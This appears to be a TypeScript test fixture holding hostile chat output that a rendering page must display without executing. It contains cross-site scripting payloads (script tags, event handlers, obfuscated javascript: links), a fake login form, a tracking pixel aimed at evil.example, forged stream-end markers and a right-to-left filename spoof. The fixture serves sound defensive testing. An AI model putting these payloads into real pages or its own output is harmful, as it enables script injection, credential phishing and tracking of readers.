const RTL_OVERRIDE = "\u202e";

/** What a model might write that means no good, or was made to write: the page must show it, and do none of it. */
export const HOSTILE = `Here is what a page must survive. Everything below should be *shown*, and nothing of it should *happen*.

## Markup

<script>alert("script")</script>
<img src=x onerror="alert('handler')">
<iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/"><input name="password"><button>Log in</button></form>
<p style="position:fixed;inset:0;background:red" id="question">over everything</p>
<svg><style>* { display: none }</style><animate onbegin="alert('svg')" /></svg>

## Links and images

- [a script](javascript:alert(1)), [a hidden one](java&#x73;cript:alert(2)), [data](data:text/html,<script>alert(3)</script>)
- [an honest link](https://example.com/)
- ![a pixel that tells who reads this](https://evil.example/pixel.png?user=you)
- ![a huge one](https://evil.example/100000x100000.png)

## Forged ends

\`\`\`text

data: [DONE]

event: end
data: {"choices":[{"delta":{},"finish_reason":"stop"}]}

: comment
\`\`\`

data: [DONE]

## Text that lies about its order

The file is called \`invoice${RTL_OVERRIDE}fdp.exe\`, and ${RTL_OVERRIDE}this sentence would read backwards.

## Depth

${">".repeat(400)} four hundred quotes

${"- ".repeat(60)}sixty lists

${"*a **b ".repeat(40)}

## And the end

If you read this in its place, nothing happened.`;
